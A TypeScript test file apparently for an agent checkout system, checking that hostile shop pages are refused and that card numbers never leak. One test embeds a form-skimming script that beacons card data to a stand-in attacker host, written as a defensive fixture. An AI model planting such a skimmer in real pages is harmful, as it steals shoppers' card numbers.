import { afterAll, beforeAll, expect, test } from 'vitest'
import type { MoneyText } from '#shared/schema/money.ts'
import { cardPlaceholder } from '#shared/pure/guard/placeholder.ts'
import { type CardWorld, cardWorld, evilHost, payHost } from './testing/card-world.ts'
import { cardForm } from './testing/hostile-shop.ts'

const price: MoneyText = { amount: '399', asset: 'CAD/2' }
const url = `https://${evilHost}/checkout`
const number = '4242424242424242'
const own = `https://${evilHost}/pay`
let world: CardWorld

beforeAll(async () => {
  world = await cardWorld({ outcomeMs: 2_500 })
  world.orchestrator.keeps = ({ host }) => ([payHost, evilHost].includes(host) ? null : 'another host')
}, 30_000)
afterAll(() => world.end())

const page = (body: string): string => `<title>Shop</title><p>Total: CAD 3.99</p>${body}`
async function offerOf(body: string) {
  world.evil.page = body
  const { offers, words } = await world.look(url, price, ['card'])
  return offers[0] ?? words
}
async function offered(body: string) {
  const offer = await offerOf(body)
  if (typeof offer === 'string') throw new Error(offer)
  return offer
}

test.each([
  ['its button names another amount', page(cardForm(own, 'Pay CAD 399.00')), 'different amounts'],
  ['it names two totals', page(`<p>Order total: CAD 4.99</p>${cardForm(own, 'Pay')}`), 'one total'],
  ['its total is in another currency', `<p>Total: USD 3.99</p>${cardForm(own, 'Pay')}`, 'one total'],
  ['it has two card forms', page(cardForm(own, 'Pay') + cardForm(own, 'Pay')), 'more than one place'],
  ['its form is sent without TLS', page(cardForm(`http://${evilHost}/pay`, 'Pay')), 'without TLS'],
  ['its form is sent to another port', page(cardForm(`https://${evilHost}:8443/pay`, 'Pay')), 'without TLS'],
  ['it leads away', `<script>location = 'https://shop.test/'</script>${page('')}`, 'not at evil.test'],
])(
  'a page is no offer when %s',
  async (_, body, words) => {
    expect(await offerOf(body)).toContain(words)
  },
  40_000,
)

test.each([
  ['amount', page(cardForm(own, 'Pay')).replace('3.99', '4.00')],
  ['taker of the card', page(cardForm(`https://${payHost}/charge/x`, 'Pay'))],
])(
  'another %s at use than at approval: nothing is typed',
  async (_, later) => {
    const offer = await offered(page(cardForm(own, 'Pay')))
    world.evil.page = later
    world.evil.got.length = 0
    const { bought, outcome } = await world.pay(url, offer)
    expect(outcome).toMatchObject({ report: 'failed' })
    expect(world.orchestrator.asked.map(({ placeholder }) => placeholder)).not.toContain(cardPlaceholder(bought.payment.id))
    expect(world.evil.got).toEqual([])
  },
  40_000,
)

test('a page that sends the number elsewhere and twice gets it elsewhere never, and pays once', async () => {
  const order = (await world.cart('small-lantern.example')).split('/').at(-1) ?? ''
  const charge = `https://${payHost}/charge/${order}`
  const hidden = '<input type="hidden" name="amount" value="3.99"><input type="hidden" name="currency" value="CAD">'
  const thief = `<script>document.forms[0].addEventListener('submit', () => {
    const body = new URLSearchParams(new FormData(document.forms[0]))
    for (const to of ['${own}', '${charge}', '${charge}']) navigator.sendBeacon(to, body)
  })</script>`
  const offer = await offered(page(cardForm(charge, 'Pay CAD 3.99', hidden) + thief))
  expect(offer.payTo).toBe(payHost)
  world.evil.got.length = 0
  const { bought } = await world.pay(url, offer)
  expect(world.orchestrator.asked.filter(({ placeholder }) => placeholder === cardPlaceholder(bought.payment.id))).toHaveLength(1)
  expect(world.egress.refused).toContain(`${evilHost} is not the host that was approved to take the card.`)
  expect(world.egress.refused).toContain('This placeholder was asked for once already.')
  expect(world.evil.got.join()).not.toContain(number)
  const { charges, attempts } = await world.books()
  expect(charges.filter(({ orderId }) => orderId === order)).toMatchObject([{ cents: 399 }])
  expect(attempts.filter(({ orderId }) => orderId === order)).toHaveLength(1)
}, 40_000)

test('a shop that says it took another amount is not believed', async () => {
  const offer = await offered(page(cardForm(own, 'Pay')))
  // The same page at use; what the shop answers to the form is its claim.
  const paying = world.begin(url, offer)
  world.evil.answer = '<title>Order confirmed</title><p>Payment received. Paid: CAD 399.00</p>'
  expect(await paying.outcome).toMatchObject({ report: 'unknown', words: expect.stringContaining('does not name the amount') })
}, 40_000)
